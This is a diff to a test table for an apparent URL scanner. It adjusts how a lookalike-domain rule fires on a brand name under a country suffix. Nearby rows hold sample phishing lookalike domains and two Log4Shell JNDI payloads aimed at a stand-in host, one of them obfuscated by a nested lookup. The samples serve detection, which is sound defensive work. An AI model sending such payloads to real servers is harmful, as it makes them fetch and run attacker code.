@@ -219,7 +219,7 @@ const RULES: &[Row] = &[
     ("lookalike-domain", "https://x.safelinks.protection.outlook.com/?url=https%3A%2F%2Furldefense.com%2Fv3%2F__https%3A%2F%2Fpaypa1.com%2Fsignin__%3B%21%21A%21b%24&data=1", Fires { at: "1" }, "Safe Links around Proofpoint v3: the last destination is judged, on its own byte (Proofpoint v3 carries it as written)"),
     ("lookalike-domain", "https://rnicrosoft.com/", Fires { at: "rn" }, "'rn' for 'm' in Microsoft's name"),
     ("lookalike-domain", "https://1inked1n.com/", Fires { at: "1inked1" }, "each '1' read its own way: an 'l', then an 'i'"),
-    ("lookalike-domain", "https://paypal.cn/signin", Fires { at: "cn/signin" }, "a brand's name under a country's suffix, asking for a sign-in (medium)"),
+    ("lookalike-domain", "https://paypal.cn/signin", Fires { at: "cn" }, "a brand's name under a country's suffix, asking for a sign-in: shown (low), as the brands' own country sites ask"),
     ("lookalike-domain", "https://www.netflix.co.uk/", Fires { at: "co.uk" }, "a brand's name under a country's suffix alone, most often the brand's own registration there: only shown (low)"),
     ("jndi-lookup", "https://v.example/?q=${jndi:ldap://evil.example:1389/a}", Fires { at: "${jndi:ldap://evil.example:1389/a}" }, "Log4Shell: a server that logs the URL looks the name up"),
     ("jndi-lookup", "https://v.example/${${lower:j}ndi:ldap://evil.example/a}", Fires { at: "${${lower:j}ndi:ldap://evil.example/a}" }, "the word spelled by a nested lookup, across path segments"),
